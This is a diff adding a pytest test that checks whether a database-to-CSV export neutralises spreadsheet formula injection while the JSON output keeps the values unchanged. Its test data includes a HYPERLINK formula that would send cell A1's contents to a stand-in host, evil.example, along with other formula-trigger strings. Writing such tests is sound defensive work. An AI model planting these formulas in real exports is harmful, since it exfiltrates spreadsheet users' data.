@@ -160,6 +160,25 @@ def test_a_leaf_with_many_rows_is_copied_formatted_by_the_database(
     assert json.loads(b"".join(iter_member(empty, sink.collections["none"], "file"))) == []
 
 
+def test_a_copied_leafs_csv_neutralises_formulas_and_its_json_keeps_them(
+        pg_shop, monkeypatch, gather, source):
+    """The CSV PostgreSQL writes follows csvcells' rule (tests/test_csv_injection.py)."""
+    monkeypatch.setattr(driver, "BATCH", 2)  # events are copied
+    evil = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1)",
+            "\t=1", "\r=1", "-42"]
+    with psycopg.connect(pg_shop, autocommit=True) as conn:
+        for i, value in enumerate(evil):
+            conn.execute("UPDATE events SET ip = %s WHERE id = %s", (value, 70 + i))
+    run, _outcome, collections = gather(SqlConnector(source()), "pat@example.com")
+    info = collections["events"]
+    assert info["format"] == "copy"
+    rows = list(csv.DictReader(io.StringIO(
+        b"".join(iter_member(run, info, "csv")).decode(), newline="")))
+    assert sorted(r["ip"] for r in rows) == sorted(["'" + v for v in evil[:-1]] + ["-42"])
+    array = json.loads(b"".join(iter_member(run, info, "file")))
+    assert sorted(r["ip"] for r in array) == sorted(evil)
+
+
 def test_a_copied_leaf_holds_only_the_rows_of_the_period_asked_for(
         pg_shop, monkeypatch, source_run, shop_map, gather, source):
     import datetime
